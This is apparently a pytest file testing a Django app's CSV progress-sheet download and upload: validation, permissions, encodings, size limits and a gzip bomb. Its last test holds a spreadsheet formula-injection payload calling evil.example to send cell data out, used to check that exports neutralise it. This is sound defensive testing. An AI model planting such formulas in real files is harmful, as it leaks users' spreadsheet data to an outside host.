"""The progress sheet, there and back: download, fill in, upload; all rows or none."""

import csv
import html
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from plan.models import ProgressUpdate
from plan.tests import factories as f

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(personas):
    world = f.world(by=personas["coordinator"])
    f.works_for(personas["partner_member"], world.carrier)
    return world


def download(client, plan) -> list[dict]:
    response = client.get(reverse("plan:progress_sheet", args=[plan.pk]))
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def upload(client, plan, rows: list[dict]):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    file = SimpleUploadedFile("avancement.csv", out.getvalue().encode("utf-8-sig"), content_type="text/csv")
    return client.post(reverse("plan:progress_import", args=[plan.pk]), {"file": file})


def test_the_sheet_goes_round_and_records_the_rows_with_news(personas, world, client_as):
    client = client_as(personas["coordinator"])
    rows = download(client, world.plan)
    assert [row["id"] for row in rows] == [str(r.pk) for r in (world.carried, world.other, world.job)]
    rows[0].update(statut="en cours", avancement="40 %", date="15/10/2026", texte="Permanence ouverte.")
    rows[2].update(statut="done", avancement="100", texte="Guide publié.")
    response = upload(client, world.plan, rows)
    assert response.status_code == 302
    world.carried.refresh_from_db()
    world.job.refresh_from_db()
    world.other.refresh_from_db()
    assert (world.carried.status, world.carried.progress) == ("in_progress", 40)
    assert (world.job.status, world.job.progress) == ("done", 100)
    assert world.other.updates.count() == 0  # no text: nothing reported
    assert ProgressUpdate.objects.get(recommendation=world.carried).date.isoformat() == "2026-10-15"


def test_one_wrong_row_records_nothing_and_every_problem_names_its_line_and_column(
    personas, world, client_as
):
    client = client_as(personas["coordinator"])
    rows = download(client, world.plan)
    rows[0].update(statut="en cours", avancement="40", texte="Bien.")
    rows[1].update(statut="en cours", avancement="140", texte="Trop.")
    rows[2].update(statut="fini", avancement="10", texte="Statut inconnu.")
    response = upload(client, world.plan, rows)
    assert response.status_code == 400
    problems = response.context["refusal"].problems
    assert [(p.line, p.column) for p in problems] == [(3, "avancement"), (4, "statut")]
    assert not ProgressUpdate.objects.exists()
    world.carried.refresh_from_db()
    assert world.carried.progress == 0


def test_a_recommendation_of_another_plan_is_refused(personas, world, client_as):
    other = f.world(by=personas["coordinator"])
    client = client_as(personas["coordinator"])
    rows = download(client, world.plan)
    rows[0].update(id=str(other.carried.pk), statut="en cours", avancement="10", texte="Ailleurs.")
    response = upload(client, world.plan, rows)
    assert response.status_code == 400
    assert [(p.line, p.column) for p in response.context["refusal"].problems] == [(2, "id")]
    assert not ProgressUpdate.objects.exists()


def test_a_file_without_the_columns_is_refused_clearly(personas, world, client_as):
    client = client_as(personas["coordinator"])
    response = upload(client, world.plan, [{"nom": "x", "valeur": "1"}])
    assert response.status_code == 400
    assert response.context["refusal"].problems[0].line == 1


@pytest.mark.parametrize("persona,status", [("partner_member", 403), ("reader", 404), ("anonymous", 302)])
def test_only_coordinators_use_the_sheet(persona, status, personas, world, client_as):
    client = client_as(personas[persona])
    assert client.get(reverse("plan:progress_sheet", args=[world.plan.pk])).status_code == status
    assert client.get(reverse("plan:progress_import", args=[world.plan.pk])).status_code == status


def test_a_sheet_saved_by_a_spreadsheet_in_windows_1252_with_blank_lines_names_the_right_line(
    personas, world, client_as
):
    header = "id;code;recommandation;statut;avancement;date;texte;preuve"
    good = f"{world.carried.pk};1.1;x;réalisé;100;;Terminé.;"
    bad = f"{world.job.pk};2.1;x;en cours;140;;Trop.;"
    content = "\r\n".join([header, good, "", bad, ""]).encode("cp1252")
    file = SimpleUploadedFile("avancement.csv", content, content_type="text/csv")
    response = client_as(personas["coordinator"]).post(
        reverse("plan:progress_import", args=[world.plan.pk]), {"file": file}
    )
    assert response.status_code == 400
    assert [(p.line, p.column) for p in response.context["refusal"].problems] == [(4, "avancement")]
    assert not ProgressUpdate.objects.exists()


def post_file(client, plan, name: str, content: bytes):
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    return client.post(reverse("plan:progress_import", args=[plan.pk]), {"file": file})


def test_the_same_sheet_uploaded_twice_records_nothing_the_second_time(personas, world, client_as):
    client = client_as(personas["coordinator"])
    rows = download(client, world.plan)
    rows[0].update(statut="en cours", avancement="40", date="15/10/2026", texte="Permanence ouverte.")
    rows[2].update(statut="done", avancement="100", texte="Guide publié.")
    assert upload(client, world.plan, rows).status_code == 302
    assert ProgressUpdate.objects.count() == 2
    response = upload(client, world.plan, rows)
    assert response.status_code == 302
    assert ProgressUpdate.objects.count() == 2, "the second upload records nothing"
    page = html.unescape(client.get(response.url).content.decode())
    assert "0 point d'avancement enregistré" in page and "2 lignes étaient déjà sur la ligne du temps" in page
    rows[0].update(texte="Permanence ouverte, deux jours par semaine.")
    upload(client, world.plan, rows)
    assert ProgressUpdate.objects.count() == 3, "a changed row is new news"


def test_a_sheet_past_the_size_limit_is_refused_before_it_is_read(personas, world, client_as, settings):
    settings.PLI_PROGRESS_SHEET_MAX_MB = 1
    response = post_file(client_as(personas["coordinator"]), world.plan, "grand.csv", b"id;x\n" * 300_000)
    assert response.status_code == 400
    assert "(1,4 Mo ; une feuille d’avancement fait au plus 1 Mo)" in html.unescape(response.content.decode())
    assert not ProgressUpdate.objects.exists()


def test_a_compressed_sheet_that_unpacks_past_the_limit_is_refused(personas, world, client_as, settings):
    import gzip

    settings.PLI_PROGRESS_SHEET_MAX_MB = 1
    bomb = gzip.compress(b"0" * (30 * 1024 * 1024))  # 30 KB that unpack to 30 MB
    response = post_file(client_as(personas["coordinator"]), world.plan, "avancement.csv", bomb)
    assert response.status_code == 400
    assert "une fois décompressé, le fichier dépasse 1 Mo" in response.content.decode()
    assert "PLI_IMPORT_MAX_UNPACKED_MB" not in response.content.decode(), (
        "the sheet's own limit, not that one"
    )


def test_a_utf16_sheet_is_refused_as_an_unsupported_encoding(personas, world, client_as):
    content = f"id;statut;avancement;texte\n{world.carried.pk};en cours;10;Bien.\n".encode("utf-16")
    response = post_file(client_as(personas["coordinator"]), world.plan, "avancement.csv", content)
    assert response.status_code == 400
    assert "UTF-16" in response.content.decode()
    assert not ProgressUpdate.objects.exists()


def test_a_title_that_looks_like_a_formula_goes_out_as_text(personas, world, client_as):
    world.carried.title = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    world.carried.save()
    rows = download(client_as(personas["coordinator"]), world.plan)
    assert rows[0]["recommandation"] == "'" + world.carried.title
